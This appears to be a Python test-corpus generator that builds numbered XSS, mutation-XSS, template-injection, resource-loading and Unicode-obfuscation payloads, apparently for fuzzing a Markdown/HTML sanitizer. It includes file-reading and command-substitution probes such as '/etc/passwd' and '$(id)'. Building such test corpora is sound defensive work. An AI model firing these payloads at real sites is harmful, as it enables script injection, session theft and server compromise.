"""Hostile strings made by kind: what would run, load or deceive if a page took it for markup.

``CALL`` stands in each for the number of its fragment, so that what fires can be told.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator, Mapping
from itertools import product

CALL = "alert(0x7ACE)"  # replaced by alert(number)
FOREIGN = "//trial-foreign.invalid/x"
_TAGS = (
    "img", "svg", "body", "video", "audio", "input", "details", "iframe", "object", "embed", "a", "b", "div", "p", "x", "marquee",
    "select", "textarea", "button", "form", "style", "link", "table", "td", "ul", "math", "isindex", "keygen", "dialog", "meter",
    "custom-element", "h3", "blockquote", "code", "em", "li", "th", "hr", "br", "image",
)  # fmt: skip
_EVENTS = (
    "onerror", "onload", "onfocus", "onclick", "onmouseover", "onpointerenter", "ontoggle", "onanimationstart", "onwheel",
    "onkeydown", "onbeforetoggle", "onscroll", "oncopy", "onauxclick", "onloadstart", "onbegin",
)  # fmt: skip
_FORMS: tuple[Callable[[str, str], str], ...] = (
    lambda t, e: f"<{t} src=x {e}={CALL}>",
    lambda t, e: f'<{t} src="x" {e}="{CALL}">',
    lambda t, e: f"<{t}/src=x/{e}={CALL}>",
    lambda t, e: f"<{t}\n{e}\n=\n'{CALL}' src=x autofocus tabindex=1>",
    lambda t, e: f"<{t.upper()} SRC=x {e.upper()}={CALL}>",
    lambda t, e: f"<{t}\t{e}=`{CALL}` {e}={CALL} src=x>",
    lambda t, e: f"<{t} src=x {e}=&#97;lert({CALL[6:-1]})>",
    lambda t, e: f"<{t} src=x {e}={CALL}//",
    lambda t, e: f"<{t} \x0c{e}={CALL} src=x />text</{t}>",
    lambda t, e: f"<<{t} src=x {e}={CALL}>>",
    lambda t, e: f"<{t} open style=animation-name:x {e}=\"{CALL}\" src=x>",
    lambda t, e: f"&lt;{t} src=x {e}={CALL}&gt;<{t} {e}={CALL} src=x>",
)
_SCHEMES = ("javascript", "vbscript", "data", "livescript", "blob", "file", "intent", "view-source", "jar", "filesystem", "ms-its", "feed:javascript")
_VEILS: tuple[Callable[[str], str], ...] = (
    lambda s: s + ":", lambda s: s.upper() + ":", lambda s: s[:4] + "\t" + s[4:] + ":", lambda s: s[:4] + "\n" + s[4:] + ":", lambda s: "\x01" + s + ":",
    lambda s: " \t" + s + " :", lambda s: f"&#{ord(s[0])};{s[1:]}:", lambda s: f"&#x{ord(s[0]):x}{s[1:]}:", lambda s: s + "&colon;", lambda s: s + "&#58;",
    lambda s: s + "%3A", lambda s: s + "：", lambda s: f"%{ord(s[0]):02x}{s[1:]}:", lambda s: f"\\u{ord(s[0]):04x}{s[1:]}:", lambda s: s + "&Tab;:",
    lambda s: "".join(c.upper() if i % 2 else c for i, c in enumerate(s)) + ":", lambda s: s[:3] + "&NewLine;" + s[3:] + ":", lambda s: "\u200b" + s + ":",
    lambda s: "//" + s + ":", lambda s: s + "://%0a",
)
_CARRIERS = (
    "<a href=\"{}\">x</a>", "<a href='{}'>x</a>", "<a href={}>x</a>", "[x]({})", "[x](<{}>)", "<{}>", "[x]({} \"t\")", "[x][r]\n\n[r]: {}",
    "<iframe src=\"{}\"></iframe>", "<form action=\"{}\"><button>x</button></form>", "<button formaction=\"{}\">x</button>",
    "<svg><a xlink:href=\"{}\"><text>x</text></a></svg>", "<object data=\"{}\"></object>", "<embed src=\"{}\">", "<base href=\"{}\">",
    "<meta http-equiv=refresh content=\"0;url={}\">", "<area href=\"{}\">", "<math href=\"{}\"><mi>x</mi></math>",
    "<svg><animate attributeName=href values=\"{}\"/><a href=x>x</a></svg>", "![x]({})", "<link rel=stylesheet href=\"{}\">", "<img src=\"{}\">",
)  # fmt: skip
_INNER = (f"<img src=x onerror={CALL}>", f"<script>{CALL}</script>", f"<svg onload={CALL}>", f'<a id="&lt;img src=x onerror={CALL}&gt;">')
_OUTER = (
    "svg", "math", "noscript", "template", "table", "select", "style", "title", "textarea", "xmp", "noembed", "noframes", "plaintext", "iframe", "option", "script",
)
_MIXED = (
    "<math><mtext><table><mglyph><style>{}", "<svg><desc>{}", "<svg><foreignObject>{}", "<math><annotation-xml encoding=text/html>{}",
    "<math><annotation-xml encoding=\"application/xhtml+xml\"><svg><foreignObject>{}", "<svg><style><![CDATA[</style>{}]]>", "<svg></p><style><a title=\"</style>{}\">",
    "<form><math><mtext></form><form><mglyph><style></math>{}", "<noscript><p title=\"</noscript>{}\">", "<table><tr><td><style></table>{}</style>",
    "<svg><title><style>{}</style></title></svg>", "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea>{}\">", "<!--><p>{}-->", "<!-- --!>{}-->",
    "<?x {}?>", "<![CDATA[{}]]>", "<!DOCTYPE x [{}]>", "<svg><![CDATA[><image xlink:href=\"]]>{}\">", "<a><b></a>{}</b>", "<p><svg><p>{}", "</p></div></main>{}",
    "<select><template>{}</template></select>", "<table><caption><svg><desc><td>{}", "<frameset>{}", "<select><style></select>{}</style>", "<svg><script>{}</script>",
)  # fmt: skip
_BREAKS = ('"', "'", "`", ">", "/>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</div></div>", '">', "'>", "\" ", "' ", "`>", "\\\">", "%22>", "&quot;>", "\u00a0\">", "*/", ")", "](")
_LOADS = (
    "<img src={}>", "<img srcset='{} 2x'>", "<audio src={} autoplay>", "<video poster={}>", "<video><source src={}></video>", "<track src={}>", "<object data={}></object>",
    "<embed src={}>", "<iframe src={}></iframe>", "<iframe srcdoc='<img src={}>'></iframe>", "<link rel=stylesheet href={}>", "<link rel=preload as=image href={}>", "<link rel=prefetch href={}>",
    "<input type=image src={}>", "<body background={}>", "<table background={}>", "<svg><image href={} /></svg>", "<svg><use href={}#a /></svg>", "<style>@import '{}';</style>",
    "<style>*{{background:url({})}}</style>", "<p style=\"background:url({})\">x</p>", "<p style='list-style-image:url({})'>x", "![x]({})", "![x][r]\n\n[r]: {}", "<meta http-equiv=refresh content='0;url={}'>",
    "<script src={}></script>", "<script type=module>import '{}'</script>", "<form action={} id=f><input autofocus></form>", "<base href={}><img src=y>", "<frame src={}>", "<portal src={}>",
    "<object type=image/svg+xml data={}>", "<picture><source srcset={}><img></picture>", "<a ping={} href=#>x</a>", "<div style=\"cursor:url({}),auto\">x</div>", "<math><mglyph src={} /></math>", "<bgsound src={}>",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{{config}}", "{{ ''.__class__.__mro__ }}", "{% for x in range(9) %}X{% endfor %}", "{%raw%}", "{#", "#}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{{x}}}", "[[7*7]]", "@{7*7}",
    "{{constructor.constructor('CALL')()}}", "{{ x|safe }}", "{% include '/etc/passwd' %}", "{% extends x %}", "%(x)s", "{0.__class__}", "{x!r}", "$(id)", "`id`", "\\{{x}}", "{%- set x=1 -%}", "{{ cycler.__init__ }}",
)  # fmt: skip
_SPOOFS = (
    '<span class="mark strong">红色</span>', '<div class="warn">x</div>', '<form id=f><input name=attributes></form>', '<a id=location name=x href=#>x</a>', '<img name=body>', '<form name=document>',
    '<h1 class=x id=facts>x</h1>', '<dialog open>x</dialog>', '<details open><summary>x</summary></details>', '<p style="position:fixed;inset:0">x</p>', '<font color=red>x</font>', '<blink>x</blink>',
    '<input type=password>', '<button type=submit>x</button>', '<label for=q>x</label>', '<nav>x</nav>', '<header>x</header>', '<main>x</main>', '<title>x</title>', '<p hidden>x</p>', '<p lang=en dir=rtl>x</p>',
    '<p contenteditable>x</p>', '<slot name=x></slot>', '<template shadowrootmode=open>x</template>', '<p popover id=p>x</p><button popovertarget=p>x</button>', '<p data-now=day>x</p>', '<p title="x">x</p>', '<bdo dir=rtl>x</bdo>',
)  # fmt: skip
_ODD = "\u202e\u202d\u2066\u2067\u2069\u200b\u200c\u200d\u200e\u200f\ufeff\u2028\u2029\u0085\u00ad\u0001\u0007\u0008\u000b\u001b\u007f\u0080\ufff9\ufffe\ue000\U000e0001\U000e0041\u115f\u3164\u2800\u034f"
_MARKDOWN = (
    "[x]: javascript:CALL\n\n[x]", "[a](javascript:CALL 'b' onclick=CALL)", "[a](x \"><img src=x onerror=CALL>\")", "![a\"onerror=\"CALL](x)", "<javascript:CALL>", "<x@x.invalid?subject=\"onclick=CALL>",
    "[<img src=x onerror=CALL>](http://x.invalid)", "[x](http://x.invalid/\"onmouseover=CALL\")", "[x](http://x.invalid/'onclick='CALL)", "[`x](`javascript:CALL)", "*[x](javascript:CALL)*", "[x\\](javascript:CALL)",
    "[x](java\\\nscript:CALL)", "[x](&#106;avascript:CALL)", "# x {: onclick=CALL }", "x\n{: onclick=CALL }", "[x](y){: onclick=CALL }", "| a |\n|---|\n| <img src=x onerror=CALL> |", "```<img src=x onerror=CALL>\n```",
    "~~~\n</code></pre><img src=x onerror=CALL>\n~~~", "    </code><img src=x onerror=CALL>", "`</code><img src=x onerror=CALL>`", "[^1]\n\n[^1]: <img src=x onerror=CALL>", "*[CSS]: \"onclick=CALL\n\nCSS", "!!! note \"<img src=x onerror=CALL>\"\n    x",
    "\x02klzzwxh:0000\x03", "\x02wzxhzdk:0\x03<img src=x onerror=CALL>", "klzzwxh:0001<img src=x onerror=CALL>", "\\<img src=x onerror=CALL>", "&lt;img src=x onerror=CALL&gt;", "&amp;lt;img src=x onerror=CALL&amp;gt;",
    "<http://x.invalid/<img src=x onerror=CALL>>", "[[[x](javascript:CALL)](y)](z)", "![[x](javascript:CALL)](y)", "[x](<javascript:CALL> \"t\")", "<a\nhref=javascript:CALL>x</a>", "- <img src=x onerror=CALL>\n\n      <script>CALL</script>",
    "[x]:<javascript:CALL>\n[x]", "[x][ ]\n\n[ ]: javascript:CALL", "1. <p>\n2. <script>CALL</script>", "> <div>\n<script>CALL</script>", "<div markdown=1><script>CALL</script></div>", "[x](//trial-foreign.invalid/x)", "[x](\\\\trial-foreign.invalid\\x)",
)  # fmt: skip
_HTML = ("<p {}>x</p>", "<p title={}x>x</p>", '<p title="{}">x</p>', "<p title='{}'>x</p>", "<textarea>{}</textarea>", "<style>{}</style>", "<title>{}</title>", "<!--{}-->", "<script>var x='{}'</script>", "{}")


def _calls(strings: Iterator[str] | tuple[str, ...]) -> Iterator[str]:
    return (s.replace("CALL", CALL) for s in strings)


def _events() -> Iterator[str]:
    return (form(tag, event) for tag, event, form in product(_TAGS, _EVENTS, _FORMS))


def _schemes() -> Iterator[str]:
    tails = {"data": f"text/html,<script>{CALL}</script>"}
    return (carrier.replace("{}", veil(scheme) + tails.get(scheme, CALL)) for scheme, veil, carrier in product(_SCHEMES, _VEILS, _CARRIERS))


def _mutations() -> Iterator[str]:
    shapes = (*_MIXED, *(f"<{a}><{b}></{a}>{{}}</{b}>" for a, b in product(_OUTER, _OUTER) if a != b), *(f"<{a}>{{}}</{a}>" for a in _OUTER))
    return (shape.replace("{}", inner) for shape, inner in product(shapes, _INNER))


def _breaking() -> Iterator[str]:
    ends = (f"onmouseover={CALL} x=", f"<img src=x onerror={CALL}>", f"<script>{CALL}</script>", f" onfocus={CALL} autofocus ", f";{CALL};//")
    return (html.replace("{}", a + end) for html, a, end in product(_HTML, _BREAKS, ends))


def _entities() -> Iterator[str]:
    base = f"<img src=x onerror={CALL}>"
    for code in ("&#{};", "&#x{:x};", "&#{:07d}", "&#x{:06X};", "\\x{:02x}", "\\u{:04x}", "%{:02x}", "&amp;#{};", "\\{:o}", "&#{}\n"):
        yield "".join(code.format(ord(c)) for c in base)
        yield base.replace("<", code.format(60)).replace(">", code.format(62))
        yield f'<a href="{"".join(code.format(ord(c)) for c in "javascript:")}{CALL}">x</a>'
        yield f"[x]({''.join(code.format(ord(c)) for c in 'javascript:')}{CALL})"
    yield from (base.replace("<", c) for c in ("＜", "‹", "﹤", "\u227a", "<\x00", "<\u200b", "&lt", "&LT;", "\x3c", "+ADw-"))


def _unseen() -> Iterator[str]:
    words = ("红色{}预警", "<im{}g src=x onerror=" + CALL + ">", "[x](java{}script:" + CALL + ")", "{}", "a{}{}b", "<{}script>" + CALL + "</script>", "*{}*", "[x]({}http://x.invalid)")
    veiled = (form.format(ord(c)) for c in _ODD for form in ("&#{};", "&#x{:x};"))
    return (word.replace("{}", c) for c, word in product((*_ODD, *veiled), words))


def _templates() -> Iterator[str]:
    return (html.replace("{}", t) for t, html in product(_calls(_TEMPLATES), (*_HTML[2:6], "{}", "`{}`", "[x]({})")))


KINDS: Mapping[str, Callable[[], Iterator[str]]] = {
    "标签×事件×写法": _events, "协议×伪装×载体": _schemes, "解析错位（mXSS）": _mutations, "闭合属性和标签": _breaking, "实体和转义": _entities,
    "外部资源": lambda: (load.replace("{}", scheme + FOREIGN).replace("{{", "{").replace("}}", "}") for load in _LOADS for scheme in ("https:", "", "http:")),
    "模板注入": _templates, "冒充和占名": lambda: iter(_SPOOFS), "看不见的字符": _unseen, "Markdown 花样": lambda: _calls(_MARKDOWN),
}  # fmt: skip
# Where in a body a payload stands.
PLACES: Mapping[str, str] = {
    "段落": "{}", "句中": "前文 {} 后文", "紧贴": "前{}后", "一级标题": "# {}", "六级标题": "###### {} ######", "下划标题": "{}\n===", "列表": "- {}", "星号列表": "* 甲\n* {}\n* 乙",
    "编号列表": "1. {}", "嵌套列表": "- 甲\n    - {}", "列表里的段": "- 甲\n\n    {}", "引用": "> {}", "嵌套引用": "> > {}", "引用列表": "> - {}", "表头": "| {} | 乙 |\n|---|---|\n| 1 | 2 |",
    "表格": "| 甲 | 乙 |\n|---|---|\n| {} | 2 |", "表格末格": "甲 | 乙\n---|---\n1 | {}", "行内代码": "`{}`", "双反引号": "``{}``", "围栏代码": "```\n{}\n```", "围栏语言": "```{}\nx\n```", "缩进代码": "    {}",
    "强调": "*{}*", "加粗": "**{}**", "下划强调": "_{}_", "三重": "***{}***", "链接文字": "[{}](https://x.invalid)", "链接地址": "[x]({})", "尖括号地址": "[x](<{}>)", "链接标题": "[x](https://x.invalid \"{}\")",
    "单引标题": "[x](https://x.invalid '{}')", "引用链接": "[{}][r]\n\n[r]: https://x.invalid", "引用地址": "[x][r]\n\n[r]: {}", "引用标题": "[x][r]\n\n[r]: https://x.invalid \"{}\"", "引用名": "[x][{}]\n\n[{}]: https://x.invalid",
    "自动链接": "<{}>", "地址后": "<https://x.invalid/{}>", "邮件": "<a@{}>", "图片说明": "![{}](x)", "图片地址": "![x]({})", "图片引用": "![x][r]\n\n[r]: {}", "地址里": "[x](https://x.invalid/{})",
    "转义后": "\\{}", "实体后": "&lt;{}&gt;", "注释里": "<!-- {} -->", "标签里": "<p {}>x</p>", "双引属性": "<p title=\"{}\">x</p>", "单引属性": "<p title='{}'>x</p>", "裸属性": "<p title={}>x</p>", "块元素里": "<div>\n{}\n</div>",
    "脚本里": "<script>{}</script>", "样式里": "<style>{}</style>", "预排里": "<pre>{}</pre>", "文本框里": "<textarea>{}</textarea>", "未闭合后": "<div title=\"\n{}", "硬换行": "甲  \n{}  \n乙", "横线间": "---\n{}\n***", "属性列表": "x\n{: {} }",
    "脚注": "x[^1]\n\n[^1]: {}", "缩略": "*[x]: {}\n\nx", "定义": "x\n: {}", "提示块": "!!! note \"{}\"\n    x", "链接套链接": "[[{}](https://x.invalid)](https://y.invalid)", "强调套代码": "**`{}`**", "重复": "{} {} {}",
}  # fmt: skip


def payloads(count: int, seed: str = "payloads") -> dict[str, list[str]]:
    """So many payloads in all, by kind; every kind is there, the large ones by lot."""
    rng = random.Random(seed)
    made = {kind: list(dict.fromkeys(make())) for kind, make in KINDS.items()}
    left, out = count, {}
    for i, kind in enumerate(sorted(made, key=lambda k: len(made[k]))):
        share = left // (len(made) - i)
        out[kind] = rng.sample(made[kind], min(share, len(made[kind])))
        left -= len(out[kind])
    return out


def numbered(payload: str, number: int) -> str:
    """The payload so that it calls with its own number."""
    return payload.replace(CALL, f"alert({number})").replace(CALL[6:-1], str(number))
